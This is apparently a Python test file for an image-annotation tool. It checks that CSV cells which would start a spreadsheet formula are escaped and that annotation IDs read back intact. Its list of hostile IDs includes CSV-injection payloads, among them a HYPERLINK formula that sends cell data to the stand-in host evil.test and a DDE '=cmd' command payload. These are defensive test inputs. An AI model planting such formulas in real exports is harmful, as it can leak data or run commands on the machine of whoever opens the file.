"""CSV cells a spreadsheet shows as text: every CSV xgal writes escapes a cell that would start a
formula (`=`, `+`, `-` not a number, `@`), and reading the answers back gives the original ID."""

import csv
import re

import numpy as np
from helpers import blob_images
from hypothesis import given
from hypothesis import strategies as st

from xgal.annotate.annotator import AnnotationRequest
from xgal.annotate.answers import record_answers
from xgal.annotate.folder import write_request
from xgal.core.spreadsheet import FORMULA_START, from_cell, to_cell
from xgal.pool.writer import PoolWriter

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "'=already quoted",
    "-0.5",  # a number stays a number
    "plain-7",
]


def _looks_like_formula(cell: str) -> bool:
    return (
        cell.startswith(FORMULA_START)
        and re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell) is None
    )


@given(st.text())
def test_a_cell_reads_back_as_the_text_it_was_given(text):
    assert from_cell(to_cell(text)) == text
    assert not _looks_like_formula(to_cell(text))


def test_numbers_stay_numbers_and_formulas_become_text():
    assert to_cell("-0.5") == "-0.5" and to_cell("+3") == "+3" and to_cell("1e-3") == "1e-3"
    assert to_cell("=1+1") == "'=1+1" and to_cell("@x") == "'@x" and to_cell("-x") == "'-x"
    assert to_cell("it's") == "it's" and to_cell("'=x") == "''=x"
    # Python's float() reads these; a spreadsheet does not (they would show as #NAME? errors)
    assert to_cell("-inf") == "'-inf" and to_cell("-nan") == "'-nan" and to_cell("+1_0") == "'+1_0"


def test_a_hand_off_round_of_hostile_ids_is_safe_to_open_and_reads_back(tmp_path):
    pool = tmp_path / "pool"
    n = len(HOSTILE)
    with PoolWriter(pool, image_shape=(1, 16, 16), class_names=["a", "b"]) as w:
        w.add(HOSTILE, blob_images(n, 1, 16, seed=0), np.zeros((n, 16, 16), np.uint8), None)
    run = tmp_path / "run"
    request = AnnotationRequest(
        0, blob_images(n, 1, 16, seed=0), np.zeros((n, 16, 16), np.uint8), ("a", "b"), str(pool)
    )
    request.probs = np.full((n, 2), 0.5)
    request.ranking = {i: {"score": -0.25, "uncertainty": 0.5, "misalignment": 1.0} for i in HOSTILE}
    folder = run / "round-0"
    write_request(folder, HOSTILE, request)
    for name in ("request.csv", "labels.csv"):
        cells = [c for row in csv.reader(open(folder / name, newline="")) for c in row]
        assert not [c for c in cells if _looks_like_formula(c)], name
        assert "-0.25" in cells or name == "labels.csv"  # scores stay numbers
    # The radiologist fills the template in a spreadsheet, which keeps each cell's text.
    rows = list(csv.reader(open(folder / "labels.csv", newline="")))
    with open(folder / "labels.csv", "w", newline="") as f:
        csv.writer(f).writerows([rows[0], *([r[0], "b"] for r in rows[1:])])
    record_answers(run, folder / "labels.csv")
    answers = np.load(folder / "answers.npz")
    assert answers["ids"].tolist() == HOSTILE and answers["labels"].tolist() == [1] * n


def test_answers_saved_as_csv_utf8_with_a_byte_order_mark_are_read(tmp_path):
    pool = tmp_path / "pool"
    ids = ["s1", "s2"]
    with PoolWriter(pool, image_shape=(1, 16, 16), class_names=["a", "b"]) as w:
        w.add(ids, blob_images(2, 1, 16, seed=0), np.zeros((2, 16, 16), np.uint8), None)
    run = tmp_path / "run"
    request = AnnotationRequest(
        0, blob_images(2, 1, 16, seed=0), np.zeros((2, 16, 16), np.uint8), ("a", "b"), str(pool)
    )
    write_request(run / "round-0", ids, request)
    (run / "filled.csv").write_bytes("\ufeffid,label\r\ns1,a\r\ns2,b\r\n".encode())  # Excel's "CSV UTF-8"
    record_answers(run, run / "filled.csv")
    assert np.load(run / "round-0" / "answers.npz")["labels"].tolist() == [0, 1]
